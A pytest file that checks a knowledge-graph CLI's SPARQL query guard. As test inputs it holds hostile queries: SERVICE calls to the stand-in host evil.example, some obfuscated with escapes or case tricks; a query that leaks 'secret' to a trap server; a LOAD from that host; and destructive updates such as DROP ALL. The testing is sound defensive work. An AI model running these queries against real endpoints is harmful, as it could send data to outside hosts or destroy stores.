"""The query guard: updates and SERVICE refused before any store or host sees them."""

from __future__ import annotations

import pytest
from graph_sample import build_sample
from trap import trap_server
from typer.testing import CliRunner

from kg.cli import app
from kg.errors import QueryError, QueryRefused
from kg.guard import check_query, is_update, service_targets
from kg.query import run_query

runner = CliRunner()


@pytest.fixture(scope="module")
def output(tmp_path_factory):
    return build_sample(tmp_path_factory.mktemp("guard"))


@pytest.mark.parametrize("query", [
    "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
    "select * { service silent <http://evil.example/> { ?s ?p ?o } }",
    "PREFIX e: <http://evil.example/> SELECT * { SeRvIcE e:sparql { ?s ?p ?o } }",
    "BASE <http://evil.example/> SELECT * { SERVICE <sparql> { ?s ?p ?o } }",
    "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE<http://evil.example/>{?s ?p ?o} } }",
    # SPARQL processes \u escapes before parsing: this is the keyword SERVICE.
    "SELECT * { \\u0053ERVICE <http://evil.example/> { ?s ?p ?o } }",
    "SELECT * { ?s ?p ?o . SERVICE ?endpoint { ?s ?p ?o } }",
    "SELECT * { ?a ?b ?c FILTER(?c<1)SERVICE<http://evil.example/>{?s ?p ?o} }",
])
def test_service_is_refused_whatever_its_spelling(query):
    with pytest.raises(QueryRefused):
        check_query(query)


@pytest.mark.parametrize("query", [
    'SELECT ?s WHERE { ?s ?p "SERVICE <http://evil.example/> { }" }',
    "SELECT ?s WHERE { ?s <http://x.example/SERVICE> ?o }  # SERVICE <http://evil.example/>",
    "PREFIX service: <http://x.example/> SELECT ?service WHERE { ?service service:load ?o }",
    "SELECT ?s WHERE { ?s ?p '''a long\nSERVICE string''' }",
    'SELECT ?s WHERE { ?s ?p "x"@add , "y"@copy-drop }',
])
def test_the_word_in_strings_iris_comments_and_names_is_no_keyword(query):
    check_query(query)
    assert service_targets(query) == []
    assert not is_update(query)


def test_allowed_hosts_are_matched_by_host_and_optionally_port():
    query = "PREFIX e: <http://data.example.org:8890/> SELECT * { SERVICE e:sparql { ?s ?p ?o } }"
    assert service_targets(query) == ["http://data.example.org:8890/sparql"]
    check_query(query, allow_service=["data.example.org"])
    check_query(query, allow_service=["DATA.example.org:8890"])
    with pytest.raises(QueryRefused, match="not among --allow-service"):
        check_query(query, allow_service=["data.example.org:9999", "other.example.org"])
    with pytest.raises(QueryRefused, match="fixed IRI"):
        check_query("SELECT * { SERVICE ?e { ?s ?p ?o } }", allow_service=["data.example.org"])


@pytest.mark.parametrize("update", [
    "INSERT DATA { <http://a.example/s> <http://a.example/p> 1 }",
    "LOAD <http://evil.example/data.ttl>",
    "PREFIX e: <http://a.example/> DELETE WHERE { ?s e:p ?o }",
    "DROP ALL",
    "clear default",
])
def test_updates_are_refused_saying_so(update):
    with pytest.raises(QueryRefused, match="updates are not allowed"):
        check_query(update)


def test_kg_query_reaches_no_other_host(output):
    with trap_server() as (url, received):
        leak = f"SELECT * WHERE {{ SERVICE <{url}/leak?x=secret> {{ ?s ?p ?o }} }}"
        result = runner.invoke(app, ["query", leak, "--output", str(output)])
        assert result.exit_code == 2
        assert "federation is off" in result.output and "--allow-service" in result.output
        variable = f"SELECT * WHERE {{ BIND(<{url}/x> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}"
        result = runner.invoke(app, ["query", variable, "--output", str(output)])
        assert result.exit_code == 2 and "fixed IRI" in result.output
        update = f"LOAD <{url}/data.ttl>"
        result = runner.invoke(app, ["query", update, "--output", str(output)])
        assert result.exit_code == 2 and "updates are not allowed" in result.output
        assert received == []


def test_an_allowed_host_is_called_and_a_bad_answer_is_a_clear_error(output):
    with trap_server(body=b"{not json") as (url, received):
        query = f"SELECT * WHERE {{ SERVICE <{url}/sparql> {{ ?s ?p ?o }} }}"
        result = runner.invoke(app, ["query", query, "--output", str(output), "--allow-service", "127.0.0.1"])
        assert received and received[0].startswith("POST /sparql")
        assert result.exit_code == 2, result.output
        assert "the query failed" in result.output
        assert "Traceback" not in result.output


def test_run_query_guards_named_and_inline_queries(output):
    assert len(run_query("officials-and-posts", output=output)) == 1
    with pytest.raises(QueryError):
        run_query("SELECT * { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }", output=output)
